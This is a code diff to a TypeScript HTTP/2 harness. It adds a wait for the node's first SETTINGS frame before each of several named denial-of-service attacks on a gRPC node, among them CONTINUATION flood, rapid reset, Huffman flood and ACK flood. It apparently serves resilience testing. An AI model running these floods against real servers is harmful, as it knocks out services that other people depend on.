@@ -418,6 +418,8 @@ class H2Conn {
   streamsEnded = 0;
   pingAcks = 0;
   settingsAcks = 0;
+  /** SETTINGS frames from the node (each acknowledged at once). */
+  nodeSettings = 0;
   readonly #reader = new FrameReader();
   #first = true;
   #parse = true;
@@ -501,6 +503,15 @@ class H2Conn {
     }
   }
 
+  /**
+   * Waits for the node's first SETTINGS: our ACK of it goes out at once,
+   * and must not land inside a header block (HEADERS and CONTINUATIONs)
+   * that the attack sends after, where it is a protocol error.
+   */
+  async handshake(ctx: Ctx): Promise<void> {
+    await this.until(() => this.nodeSettings > 0, Date.now() + 2000, ctx);
+  }
+
   /** Closes from our side (the end of the attack). */
   close(): void {
     if (!this.closed) this.byUs = true;
@@ -534,7 +545,10 @@ class H2Conn {
     switch (f.type) {
       case Frame.Settings:
         if (f.flags & ACK) this.settingsAcks++;
-        else void this.send(frame(Frame.Settings, ACK, 0), 1);
+        else {
+          this.nodeSettings++;
+          void this.send(frame(Frame.Settings, ACK, 0), 1);
+        }
         return;
       case Frame.Ping:
         if (f.flags & ACK) this.pingAcks++;
@@ -713,6 +727,7 @@ function continuationFlood(size: number): Attack["run"] {
   return async (ctx) => {
     const c = new H2Conn(ctx.port, ctx.addr(0));
     await c.ready;
+    await c.handshake(ctx);
     const t0 = Date.now();
     await c.send(frame(Frame.Headers, 0, 1, grpcBlock("/Block/BlockSync")), 1);
     const one = frame(Frame.Continuation, 0, 1, new Uint8Array(size));
@@ -729,6 +744,7 @@ function continuationFlood(size: number): Attack["run"] {
 const emptyData: Attack["run"] = async (ctx) => {
   const c = new H2Conn(ctx.port, ctx.addr(0));
   await c.ready;
+  await c.handshake(ctx);
   const t0 = Date.now();
   await c.send(
     frame(Frame.Headers, END_HEADERS, 1, grpcBlock("/Block/BlockReceive")),
@@ -783,6 +799,7 @@ function ackFlood(one: Uint8Array, acks: (c: H2Conn) => number): Attack["run"] {
   return async (ctx) => {
     const c = new H2Conn(ctx.port, ctx.addr(0));
     await c.ready;
+    await c.handshake(ctx);
     const t0 = Date.now();
     const block = grpcBlock("/Block/BlockSync");
     await c.send(
@@ -859,6 +876,7 @@ const huffmanFlood: Attack["run"] = async (ctx) => {
   const blockBytes = Uint8Array.from(block);
   const c = new H2Conn(ctx.port, ctx.addr(0));
   await c.ready;
+  await c.handshake(ctx);
   const t0 = Date.now();
   const end = t0 + 15_000;
   const batch = 25;
@@ -897,6 +915,7 @@ const rapidReset: Attack["run"] = async (ctx) => {
   const block = grpcBlock("/Block/BlockSync");
   const c = new H2Conn(ctx.port, ctx.addr(0));
   await c.ready;
+  await c.handshake(ctx);
   const t0 = Date.now();
   const batch = 250;
   let id = 1;
@@ -966,6 +985,7 @@ const refusedStreams: Attack["run"] = async (ctx) => {
   const block = grpcBlock("/Block/BlockSync");
   const c = new H2Conn(ctx.port, ctx.addr(0));
   await c.ready;
+  await c.handshake(ctx);
   const t0 = Date.now();
   const open: Uint8Array[] = [];
   for (let i = 0; i < 100; i++) {
